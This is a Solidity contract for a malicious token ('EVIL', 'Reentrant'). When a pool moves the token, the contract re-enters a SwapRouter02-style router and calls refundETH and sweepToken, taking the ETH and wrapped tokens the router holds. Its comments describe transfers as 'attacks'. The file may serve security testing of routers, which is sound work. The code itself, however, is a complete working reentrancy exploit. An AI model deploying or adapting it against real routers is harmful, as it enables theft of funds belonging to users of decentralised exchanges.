// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IRouter {
  function refundETH() external payable;
  function sweepToken(address token, uint256 amountMinimum, address recipient) external payable;
}

/// @title A token that calls SwapRouter02 while a pool is paid or pays with it.
/// @notice Takes what the router holds.
contract Reentrant {
  string public constant symbol = 'EVIL';
  string public constant name = 'Reentrant';
  uint8 public constant decimals = 18;
  IRouter private immutable router;
  address private immutable wrapped;
  address private pool;
  mapping(address owner => uint256) public balanceOf;
  mapping(address owner => mapping(address spender => uint256)) public allowance;

  event Transfer(address indexed from, address indexed to, uint256 amount);

  constructor(IRouter router_, address wrapped_) {
    router = router_;
    wrapped = wrapped_;
    balanceOf[msg.sender] = 1e27;
  }

  receive() external payable {}

  /// @notice From now on payments of and to the pool are attacks.
  function open(address pool_) external {
    pool = pool_;
  }

  function approve(address spender, uint256 amount) external returns (bool) {
    allowance[msg.sender][spender] = amount;
    return true;
  }

  function transfer(address to, uint256 amount) external returns (bool) {
    if (msg.sender == pool) attack();
    move(msg.sender, to, amount);
    return true;
  }

  function transferFrom(address from, address to, uint256 amount) external returns (bool) {
    if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= amount;
    if (to == pool) attack();
    move(from, to, amount);
    return true;
  }

  function attack() private {
    router.refundETH();
    router.sweepToken(wrapped, 0, address(this));
  }

  function move(address from, address to, uint256 amount) private {
    balanceOf[from] -= amount;
    balanceOf[to] += amount;
    emit Transfer(from, to, amount);
  }
}
